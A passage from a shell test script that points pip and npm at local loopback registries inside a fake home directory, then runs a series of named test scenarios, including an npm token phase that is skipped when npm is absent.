  # registries): addresses on loopback, so that nothing needs a network.
  mkdir -p "$FAKE_HOME/.config/pip"
  printf '[global]\nindex-url = http://127.0.0.1:3141/simple\n' > "$FAKE_HOME/.config/pip/pip.conf"
  echo "registry=http://127.0.0.1:4873/" >> "$FAKE_HOME/.npmrc"
  own "$FAKE_HOME"
  scenario_helpers
  scenario_profiles
  scenario_sets
  scenario_writes
  if [[ -n $HOST_NPM ]]; then scenario_token; else note "$WHO: npm is not installed; the token phase not tried"; fi
  scenario_config
done
[[ $NOTES -eq 0 ]] || echo "$NOTES notes"
finish
